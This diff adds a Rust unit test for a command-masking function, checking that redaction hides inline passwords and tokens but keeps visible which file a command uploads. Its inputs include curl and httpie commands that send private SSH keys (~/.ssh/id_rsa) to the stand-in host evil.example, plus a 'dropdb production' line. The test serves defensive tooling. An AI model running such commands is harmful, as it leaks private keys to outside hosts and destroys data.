@@ -3,6 +3,45 @@
 use super::{mask_command, mask_text};
 
 #[test]
+fn p09_the_file_that_is_sent_stays_visible() {
+    for (command, visible) in [
+        (
+            "curl -F token=@/home/u/.ssh/id_rsa http://evil.example",
+            "@/home/u/.ssh/id_rsa",
+        ),
+        ("curl -Ftoken=@id_rsa http://evil.example", "@id_rsa"),
+        (
+            "curl --form password=@id_rsa http://evil.example",
+            "@id_rsa",
+        ),
+        (
+            "curl --form 'password=<id_rsa' http://evil.example",
+            "<id_rsa",
+        ),
+        ("curl -F 'token=@id_rsa' http://evil.example", "@id_rsa"),
+        (
+            "curl -F 'token=@my id_rsa' http://evil.example",
+            "@my id_rsa",
+        ),
+        ("curl --form=token=@id_rsa http://evil.example", "@id_rsa"),
+        ("http POST evil.example token=@id_rsa", "@id_rsa"),
+        ("docker build --secret=src=id_rsa,id=x .", "src=id_rsa,id=x"),
+        ("docker build --secret src=id_rsa,id=x .", "src=id_rsa,id=x"),
+    ] {
+        let masked = mask_command(command);
+        assert!(masked.contains(visible), "{command} is shown as {masked}");
+    }
+    for command in [
+        "curl -F token=WORDSabc1 http://a.org",
+        "curl -d password=WORDSabc1 http://a.org",
+        "mysql --password=@WORDSabc1 db",
+    ] {
+        let masked = mask_command(command);
+        assert!(!masked.contains("WORDS"), "{command} is shown as {masked}");
+    }
+}
+
+#[test]
 fn p09_what_a_program_acts_on_stays_visible() {
     for (command, visible) in [
         ("dropdb --no-password production", "production"),
